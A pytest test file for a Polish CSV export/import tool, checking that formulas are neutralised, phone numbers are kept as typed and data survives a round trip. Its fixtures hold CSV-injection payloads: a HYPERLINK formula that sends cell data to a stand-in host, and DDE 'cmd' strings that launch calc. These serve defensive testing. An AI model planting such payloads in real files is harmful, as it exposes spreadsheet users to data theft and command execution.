"""The CSV files and listings the commands write: one dialect for spreadsheets (BOM, `;`,
decimal comma, CRLF), one for pipes (`,`, LF, no BOM), formulas neutralised in both, phone
numbers shown as typed, and a round trip through export and import that changes nothing."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from tests import factories
from tests.conftest import Result

Run = Callable[..., Result]

PHONE = "+48 44 715 07 95"
# Names a spreadsheet could run, whole or after a delimiter it guesses, and names that only
# look close to that; each must come back from an export and an import exactly.
NAMES = (
    '=HYPERLINK("http://zly.example/?"&A1;"Kliknij")',
    "Fundacja Razem, =cmd|' /C calc'!A0",
    "Stowarzyszenie; @SUMA(A1:A9)",
    "'=już z apostrofem",
    "  +spacje przed plusem",
    "Ośrodek – Radomsko, -tak",
    "Zwykła nazwa, z przecinkiem; i średnikiem",
)


@pytest.fixture
def database(db_path: Path) -> Path:
    conn = factories.connect(db_path)
    for number, name in enumerate(NAMES):
        factories.institution(conn, name, sektor="ngo", telefon=PHONE, uwagi=f"wiersz {number}")
    first = 1
    factories.person(conn, first, "Anna Nowak", telefon="+48 600 100 200")
    factories.service(conn, first, "Poradnictwo", "wspieranie_rodziny", kontakt_telefon=PHONE)
    conn.close()
    return db_path


def _excel(data: bytes) -> list[list[str]]:
    """As Excel in Poland reads a file: BOM = UTF-8, `;` between cells."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _plain(text: str) -> list[list[str]]:
    assert not text.startswith("\ufeff")
    assert "\r\n" not in text.replace('"\r\n', "")  # LF line ends (a CR only inside quotes)
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_and_import_give_back_every_name_exactly(
    run: Run, database: Path, tmp_path: Path
) -> None:
    exported = tmp_path / "instytucje.csv"
    assert run("eksport", "instytucje", "-o", str(exported)).exit_code == 0
    rows = _excel(exported.read_bytes())
    assert exported.read_bytes().count(b"\r\n") == len(rows)
    header = rows[0]
    by_note = {row[header.index("Uwagi")]: row for row in rows[1:]}
    assert by_note["wiersz 0"][header.index("Nazwa")].startswith("'=HYPERLINK")
    assert by_note["wiersz 1"][header.index("Nazwa")] == "Fundacja Razem,' =cmd|' /C calc'!A0"
    assert by_note["wiersz 6"][header.index("Nazwa")] == NAMES[6]
    assert {row[header.index("Telefon")] for row in rows[1:]} == {PHONE}

    other = tmp_path / "druga.db"
    assert run("--baza", str(other), "baza", "utworz").exit_code == 0
    result = run("--baza", str(other), "import", "instytucje", str(exported))
    assert result.exit_code == 0, result.stderr
    conn = sqlite3.connect(other)
    names = {row[0] for row in conn.execute("SELECT nazwa FROM instytucje")}
    phones = {row[0] for row in conn.execute("SELECT telefon FROM instytucje")}
    conn.close()
    assert names == {name.strip() for name in NAMES}
    assert phones == {PHONE}


def test_rejected_rows_go_to_a_file_for_excel_and_come_back_as_typed(
    run: Run, database: Path, tmp_path: Path
) -> None:
    source = tmp_path / "nowe.csv"
    source.write_text(
        "Nazwa;Gmina;Sektor;Telefon\n"
        "=2+5+cmd|' /C calc'!A0;1012011;zly-sektor;+48 44 683 25 52\n"
        "Dobra instytucja;1012011;ngo;\n",
        "utf-8",
    )
    result = run("import", "instytucje", str(source), "--pomin-bledne")
    assert result.exit_code == 0, result.stderr
    rejects = tmp_path / "nowe.odrzucone.csv"
    rows = _excel(rejects.read_bytes())
    assert rows[0] == ["Nazwa", "Gmina", "Sektor", "Telefon", "Wiersz", "Powód odrzucenia"]
    assert rows[1][0] == "'=2+5+cmd|' /C calc'!A0"
    assert rows[1][3] == "+48 44 683 25 52"
    # Corrected in the spreadsheet and imported again: the name is what was typed.
    fixed = rejects.read_text("utf-8-sig").replace("zly-sektor", "ngo")
    again = tmp_path / "poprawione.csv"
    again.write_text(fixed, "utf-8-sig")
    assert run("import", "instytucje", str(again), "--mapowanie", "Wiersz=uwagi").exit_code in (
        0,
        1,
    )
    conn = sqlite3.connect(database)
    found = conn.execute(
        "SELECT count(*) FROM instytucje WHERE nazwa = ?", ("=2+5+cmd|' /C calc'!A0",)
    ).fetchone()
    conn.close()
    assert found == (1,)


@pytest.mark.parametrize(
    ("args", "column"),
    [
        (("instytucje", "lista", "--format", "csv"), "telefon"),
        (("osoby", "lista", "--format", "csv"), "telefon"),
        (("koszyk", "-g", "1012011", "--format", "csv"), "kontakt_telefon"),
    ],
)
def test_listings_print_plain_csv_with_phone_numbers_as_typed(
    run: Run, database: Path, args: tuple[str, ...], column: str
) -> None:
    result = run(*args)
    assert result.exit_code == 0, result.stderr
    rows = _plain(result.stdout)
    values = {row[rows[0].index(column)] for row in rows[1:]} - {""}
    assert values and all(value.startswith("+48 ") for value in values), values


def test_every_listing_speaks_one_csv_dialect(run: Run, database: Path) -> None:
    for args in (
        ("instytucje", "lista"),
        ("osoby", "lista"),
        ("uslugi", "lista"),
        ("historia",),
        ("gminy", "szukaj", "Radomsko"),
    ):
        result = run(*args, "--format", "csv")
        assert result.exit_code == 0, (args, result.stderr)
        rows = _plain(result.stdout)
        assert len({len(row) for row in rows}) == 1, args
        # The header is the keys (for scripts), no formula anywhere.
        assert all(key == key.lower() for key in rows[0]), args
        for row in rows[1:]:
            for cell in row:
                assert not cell.lstrip(" \"'").startswith(("=", "@")) or cell.startswith("'")
